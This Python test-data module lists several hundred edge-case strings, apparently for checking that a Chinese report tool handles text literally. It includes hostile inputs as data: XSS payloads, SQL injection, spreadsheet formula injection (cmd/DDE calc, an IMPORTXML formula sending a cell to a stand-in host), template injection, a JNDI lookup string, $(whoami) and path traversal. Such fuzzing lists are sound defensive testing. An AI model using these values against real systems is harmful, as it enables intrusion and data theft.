"""Strings that break programs: at least 600, each to be kept and shown literally wherever a text may stand."""

# ruff: noqa: E501  # signs that are twice as wide or not there at all

from collections.abc import Iterator
from functools import cache

_MARKUP = (
    "<b>粗</b>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href='file:///etc/passwd'>点</a>",
    "&lt;已转义&gt;", "&#x4e2d;&#25991;", "&nbsp;", "<!-- 注 -->", "<![CDATA[文]]>", "]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>", "&b;", "<para>段</para>", "<font color='red'>红</font>", "<br/>", "<table><tr><td>",
    "<style>*{display:none}</style>", "<qt>文</qt>", "<font color=\"[[[getattr(pow,'__globals__')]]]\">x</font>",
    "<w:t>文</w:t>", "</w:t></w:r></w:p>", "<w:br/>", "<f>1+1</f>", "<si><t>x</t></si>", "<svg onload=alert(1)>",
    "**粗** _斜_ `码`", "[链接](http://example.invalid)", "# 标题", "$\\frac{1}{2}$", "\\textbf{粗}", "<<<>>>", "< >", "<",
    ">", "&", "&&", '"', "'", "''", '""', "`", "“”", "‘’", "「」", "<unclosed", "</closed>",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","点")', "+1+1", "-1+1", "@SUM(1,1)",
    '=IMPORTXML(CONCAT("http://example.invalid?",A1),"//a")', '=DDE("cmd";"/C calc";"1")', "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "%0A=1+1", "'=1+1", '=WEBSERVICE("x")', "{=1+1}", "=A1", "=#REF!", "#DIV/0!",
    '="a"&"b"', "-2+3+cmd|' /C calc'!D2", "=10+20+cmd|' /C calc'!A0",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{% for x in y %}", "{# 注 #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}",
    "{name}", "%s", "%n",
    "%d%d%d", "％s%n", "{{''.__class__.__mro__}}", "{{字段}}", "{{#each}}", "$(whoami)", "`whoami`", "${jndi:ldap://x}",
    "{{{三}}}", "{", "}", "{}", "[]", "[[", "]]", "%%", "%", "\\1", "\\g<0>", "(?i)x", ".*", "[", "(", "*", "\\",
)  # fmt: skip
_QUERIES = (
    "'; drop table issue;--", "1' or '1'='1", '" or ""="', "%' or 1=1", "NULL", "null", "None", "nil",
    "undefined", "NaN",
    "true", "false", "x' and 1=0 union select 1--", "a\"b'c", "a;b", "--", "/*", "*/", "%", "_", "near/2",
    "AND", "OR NOT",
    '"未闭合', "col:值", "a*", "^a", "insert into", "pragma writable_schema=1", "attach database 'x'",
)  # fmt: skip
_PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\con", "CON", "NUL.txt", "COM1", "/dev/null", "a/b", "a\\b",
    "file:///etc/passwd", "\\\\server\\share", "~", "~root", "$HOME", "%APPDATA%", ".", "..", "...", " 前空",
    "后空 ", "后点.",
    "a:b", "a?b", "a*b", "a|b", "名\u202etxt.exe", "-rf", "--help", "长" * 300, "a" * 300, "报告.docx.exe", ".隐藏",
    "desktop.ini", "Thumbs.db", "a\u2215b", "ａ／ｂ",
)  # fmt: skip
_NUMBERS = (
    "0", "-0", "00", "1e309", "-1e309", "1E5", "0x10", "1_000", "1,000", "１２３", "一百二十三", "〇", "½", "²", "Ⅷ", "٣", "१२३",
    "9999999999999999999999", "0.1", ".1", "1.", "1.2.3", "+1", "∞", "2024-02-30", "2024.13.45",
    "0000-00-00", "9999-12-31",
    "45443", "1/2", "百分之百", "100%", "３.８６万元", "￥3.86", "负三", "亿万", "1970-01-01T00:00:00Z",
)  # fmt: skip
_HAN = (
    "𠮷𩸽", "𬭎", "𫟃", "㐀", "䶵", "〇", "\U00030000", "\U0002ffff", "葛\U000e0100", "辻\U000e0101", "⼀", "⺀", "豈", "更",
    "々", "〆", "\u3000全角空格\u3000", "ＡＢＣ", "ｶﾀｶﾅ", "한국어", "ไทย", "हिन्दी", "Ελληνικά", "Кириллица", "ǅ", "ß", "İı", "ﬁ",
    "ā á ǎ à", "e\u0301", "\u0301", "Z̸̢͝a̶l̴g̷o̵", "é" * 3, "①②③", "㈠㈡", "㊣", "☆★", "→←", "─│┌", "█", "😀",
    "👨‍👩‍👧‍👦", "🇨🇳", "👍🏽",
    "🏳️‍🌈", "\U0001f9d1\u200d\U0001f680", "1️⃣", "♂️",
)  # fmt: skip
_INVISIBLE = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u115f", "\u17b4",
    "\u180e", "\u2800",
    "\u3164", "\uffa0", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
    "\u2067", "\u2068",
    "\u2069", "\u2028", "\u2029", "\u0085", "\u00a0", "\u1680", "\u2003", "\u202f", "\u205f", "\u3000",
    "\ufff9", "\ufffa",
    "\ufffb", "\ufffc", "\ufffd", "\ufffe", "\uffff", "\U000e0001", "\U000e0020", "\U000e007f", "\ufe0f",
    "\ufe0e", "\U0010ffff",
    "\ue000",
)  # fmt: skip
_RTL = (
    "مرحبا",
    "שלום",
    "السلام عليكم",
    "\u202e反写\u202c",
    "abc\u202edef",
    "\u2067右\u2069",
    "١٢٣",
    "א1ב",
    "؟",
    "ﷺ",
    "﷽",
)
_LONG = (
    "一" * 5000,
    "a" * 5000,
    "。" * 500,
    "，" * 500,
    "（" * 200 + "）" * 200,
    "“" * 300,
    "一是" * 200,
    "1." * 300,
    " " * 500,
)
_SHAPES = (
    "一、", "（一）", "1.", "（1）", "①", "第一章", "问题1：", "针对“”问题", "关于“", "关于“甲”的问题", "整改情况：", "责任领导：",
    "合计", "小计", "填表人：", "序号", "反馈问题", "整改措施", "是否销号", "附件1", "2024年5月6日", "——", "……", "（", "）", "“", "”",
    "：", "；", "。", "、", "　", "/", "√", "×", "无", "略", "同上", "详见附件", "立行立改", "长期坚持", "万元",
)  # fmt: skip


@cache
def strings() -> tuple[str, ...]:
    """All of them, each once, in a fixed order."""
    told = (*_alone(), *_wrapped())
    return tuple(dict.fromkeys(text for text in told if text))


def _alone() -> Iterator[str]:
    for family in (_MARKUP, _FORMULAS, _TEMPLATES, _QUERIES, _PATHS, _NUMBERS, _HAN, _INVISIBLE, _RTL, _LONG, _SHAPES):
        yield from family
    yield from (chr(code) for code in (*range(1, 32), *range(127, 160)))


def _wrapped() -> Iterator[str]:
    """Inside ordinary words, where they are met in practice."""
    for family in (_MARKUP, _FORMULAS, _TEMPLATES, _INVISIBLE, _QUERIES, _NUMBERS, _HAN, _RTL):
        yield from (f"整改{text}到位" for text in family)


def printable() -> tuple[str, ...]:
    """Those that every file format can hold: no control signs, no halves of signs."""
    return tuple(text for text in strings() if not any(_is_control(sign) for sign in text))


def _is_control(sign: str) -> bool:
    return (sign < " ") or ("\x7f" <= sign <= "\x9f") or sign in "\ufffe\uffff" or 0xD800 <= ord(sign) <= 0xDFFF
